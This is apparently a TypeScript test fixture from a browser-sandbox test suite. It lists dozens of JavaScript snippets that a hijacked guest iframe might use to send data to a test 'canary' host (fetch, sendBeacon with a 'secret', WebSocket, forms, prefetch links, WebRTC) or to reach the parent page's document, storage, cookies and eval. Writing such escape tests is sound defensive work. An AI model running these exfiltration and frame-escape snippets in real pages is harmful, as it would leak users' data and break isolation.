// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code in these strings has templates of its own
import { type Attack, leaves, reaches } from './attack.ts'

/** In the document of a guest's frame: what a worker could not do, but a document that was taken over could try. */
const link = (attributes: string): string =>
  `document.head.append(Object.assign(document.createElement('link'), ${attributes}))`
const element = (name: string, attributes: string): string =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${attributes}))`
const click = (attributes: string): string =>
  `const a = Object.assign(document.createElement('a'), ${attributes}); document.body.append(a); a.click()`
const html = (text: string): string => `document.body.innerHTML = \`${text}\``

export const FRAME_ATTACKS: readonly Attack[] = [
  leaves('fetch', "await fetch(canary.http + '/fetch', { mode: 'no-cors' })"),
  leaves('a fetch for when it is gone', "fetchLater(canary.http + '/later', { activateAfter: 0 })"),
  leaves('a beacon', "navigator.sendBeacon(canary.http + '/beacon', 'secret')"),
  leaves('WebSocket', "new WebSocket(canary.ws + '/ws')"),
  leaves('EventSource', "new EventSource(canary.http + '/events')"),
  leaves('WebTransport', "new WebTransport(canary.http.replace('http:', 'https:') + '/transport')"),
  leaves('an image', "new Image().src = canary.http + '/image'"),
  // Where nobody looks at the page, as at those of the tests, it is not always drawn.
  leaves('an image in a style', 'document.body.style.background = `url(${canary.http}/style)`', false),
  leaves('an image in a drawing', html('<svg><image href="${canary.http}/drawing"/></svg>')),
  leaves('a film', html('<video src="${canary.http}/film" poster="${canary.http}/poster" autoplay>')),
  leaves('sound', "new Audio(canary.http + '/sound').load()"),
  leaves('a font', "await new FontFace('x', `url(${canary.http}/font)`).load()"),
  leaves('a style sheet', link("{ rel: 'stylesheet', href: canary.http + '/sheet' }")),
  leaves('a script', element('script', "{ src: canary.http + '/script' }")),
  leaves(
    'a script that stands there',
    element('script', "{ textContent: `fetch('${canary.http}/inline', { mode: 'no-cors' })` }"),
  ),
  leaves('import()', "await import(canary.http + '/import')"),
  leaves('an object', element('object', "{ data: canary.http + '/object' }"), false),
  leaves('a frame', element('iframe', "{ src: canary.http + '/frame' }")),
  leaves('a frame with a text of its own', element('iframe', "{ srcdoc: `<img src='${canary.http}/srcdoc'>` }")),
  leaves('a worklet', "await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(canary.http + '/worklet')"),
  leaves('names asked for ahead', link("{ rel: 'dns-prefetch', href: canary.http }"), false),
  // What the page's policies cannot forbid: headless Chromium does not always do it for a page without any.
  leaves('a connection opened ahead', link("{ rel: 'preconnect', href: canary.http }"), false),
  leaves('a page fetched ahead', link("{ rel: 'prefetch', href: canary.http + '/prefetch' }")),
  leaves(
    'a file fetched ahead',
    link("{ rel: 'preload', as: 'fetch', crossOrigin: '', href: canary.http + '/preload' }"),
  ),
  leaves('a module fetched ahead', link("{ rel: 'modulepreload', href: canary.http + '/module' }")),
  leaves('a page drawn ahead', link("{ rel: 'prerender', href: canary.http + '/prerender' }"), false),
  leaves(
    'pages fetched ahead by rule',
    element(
      'script',
      "{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [canary.http + '/rules'], eagerness: 'immediate' }] }) }",
    ),
    false,
  ),
  leaves('an icon', link("{ rel: 'icon', href: canary.http + '/icon' }"), false),
  leaves('going there', "location.href = canary.http + '/location'"),
  leaves('going there by name', "open(canary.http + '/self', '_self')"),
  leaves(
    'going there after a while',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + canary.http + '/refresh">')`,
  ),
  leaves('going to a text that goes there', 'location.href = `data:text/html,<img src="${canary.http}/data">`'),
  leaves(
    'going to a file that goes there',
    "location.href = URL.createObjectURL(new Blob([`<img src='${canary.http}/blob'>`], { type: 'text/html' }))",
  ),
  leaves('going to a script', 'location.href = `javascript:fetch("${canary.http}/javascript")`'),
  leaves(
    'sending a form',
    "const form = Object.assign(document.createElement('form'), { method: 'post', action: canary.http + '/form' }); document.body.append(form); form.submit()",
  ),
  leaves('a window', "open(canary.http + '/window')"),
  leaves('a link to a window', click("{ href: canary.http + '/link', target: '_blank' }")),
  leaves('a link that is counted', click("{ href: '#', ping: canary.http + '/ping' }")),
  leaves('a download', click("{ href: canary.http + '/download', download: 'x' }")),
  leaves('taking the page there', "top.location.href = canary.http + '/top'"),
  leaves('a link that takes the page there', click("{ href: canary.http + '/top-link', target: '_top' }")),
  leaves(
    'a policy that reports',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + canary.http + '/report">'); new Image().src = 'x:'`,
    false,
  ),
  leaves(
    'WebRTC',
    "const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + canary.udp }] }); connection.createDataChannel('x'); await connection.setLocalDescription(await connection.createOffer())",
  ),
  reaches('the page’s document', 'parent.document.body.append("taken")'),
  reaches('the page’s storage through it', 'parent.localStorage.setItem("loot", "1")'),
  reaches('the page’s functions', 'parent.eval("1")'),
  reaches('its own storage in the page’s origin', "localStorage.setItem('loot', '1')"),
  reaches(
    'cookies',
    "Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set.call(document, 'loot=1'); if (!document.cookie.includes('loot')) throw new Error('not kept')",
  ),
  reaches(
    'the database of the page',
    "await new Promise((resolve, reject) => { const asked = indexedDB.open('loot'); asked.onsuccess = resolve; asked.onerror = reject })",
  ),
  reaches('the caches of the page', "await caches.open('loot')"),
  reaches('the files of the page', 'await navigator.storage.getDirectory()'),
  reaches('a shared worker', "new SharedWorker(URL.createObjectURL(new Blob([''])))", false),
  reaches('a service worker', "await navigator.serviceWorker.register('/service-worker.js')"),
  reaches('whoever opened it', 'opener.document', false),
  reaches(
    'another guest’s frame',
    'if (!(parent.frames.length > 0)) throw new Error("no frame to be seen"); parent.frames[0].postMessage("hello", "*")',
  ),
  reaches('the address of the page in the history', "history.pushState(null, '', '/taken')", false),
  reaches('the page’s place on the screen', 'await document.documentElement.requestFullscreen()', false),
]
